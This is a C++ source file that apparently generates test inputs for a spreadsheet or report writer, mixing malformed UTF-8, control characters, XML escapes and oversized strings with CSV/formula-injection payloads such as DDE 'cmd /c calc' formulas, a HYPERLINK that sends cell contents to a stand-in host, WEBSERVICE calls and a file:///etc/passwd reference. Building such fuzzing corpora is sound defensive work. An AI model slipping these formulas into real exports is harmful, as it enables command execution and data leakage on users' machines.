// SPDX-License-Identifier: MIT
#include "report/payloads.h"

#include <array>
#include <random>
#include <string_view>

namespace rekindle::report::samples {

using namespace std::string_literals;

std::vector<std::string> payloads()
{
    std::vector<std::string> texts{
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1"s,
        "=cmd|'/c calc'!A1",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=HYPERLINK(\"http://x/?\"&A1,\"c\")",
        "=WEBSERVICE(\"http://x\")",
        "=IMPORTXML(\"http://x\",\"//a\")",
        "{=SUM(A1:A2)}",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        " =1+1",
        ";=1+1",
        "\"=1+1",
        "'=1+1",
        "%0A=1+1",
        "http://evil.example/",
        "mailto:x@y.example",
        "file:///etc/passwd",
        "internal:Sheet1!A1",
        "external:c:\\x.xlsx",
        "_x0041_",
        "_x005F_x0041_",
        "_x0041_x0042_",
        "_x004_ _xZZZZ_ x0041_ _x4_ _X0041_ _x00041_",
        "<b>&amp;</b>]]>",
        "\x01 one",
        "\x0B eleven",
        "\x1B[31m",
        "\x7F",
        "\xC2\x85 next line",
        "\xEF\xBF\xBE",
        "\xEF\xBF\xBF",
        "\xE2\x80\xAE override",
        "\xED\xA0\x80 surrogate",
        "\xC0\xAF overlong",
        "\xFF\xFE",
        "\xF5\x80\x80\x80",
        "\xE2\x82",
        "&L&B&P of &N &&",
        "two\r\nlines\rand\nmore",
        "  spaces around  ",
        "\xF0\x9F\x92\x91\xF0\x9F\xAB\x82",
        "\xD9\x85\xD8\xB1\xD8\xAD\xD8\xA8\xD8\xA7",
    };
    std::string marks = "a";
    for (int i = 0; i < 1000; ++i) marks += "\xCC\x81";
    texts.push_back(marks);
    for (const std::size_t length : {32'766U, 32'767U, 32'768U, 40'000U}) texts.emplace_back(length, 'w');
    std::string faces;
    for (int i = 0; i < 20'000; ++i) faces += "\xF0\x9F\x99\x82";
    texts.push_back(faces);
    std::string escapes;
    for (int i = 0; i < 6'000; ++i) escapes += "_x0041_";
    texts.push_back(escapes);
    return texts;
}

std::vector<std::string> random_texts(std::size_t count, std::uint32_t seed)
{
    static constexpr std::array<std::string_view, 14> nasty{
        "_x00",         "41_",  "=",        "&",  "<",  "]]>", "\"",
        "\xEF\xBF\xBF", "\xC2", "\xED\xA0", "\r", "\n", "\t",  "://"};
    std::mt19937 random(seed);
    const auto below = [&](std::uint32_t end) { return static_cast<std::uint32_t>(random() % end); };
    std::vector<std::string> texts;
    texts.reserve(count);
    for (std::size_t i = 0; i < count; ++i) {
        std::string text;
        const std::uint32_t length = below(40);
        while (text.size() < length) {
            switch (below(4)) {
            case 0:
                text += static_cast<char>(below(256));
                break;
            case 1:
                text += static_cast<char>(0x80 + below(128));
                break;
            case 2:
                text += static_cast<char>(' ' + below(95));
                break;
            default:
                text += nasty[below(nasty.size())];
                break;
            }
        }
        texts.push_back(std::move(text));
    }
    return texts;
}

} // namespace rekindle::report::samples
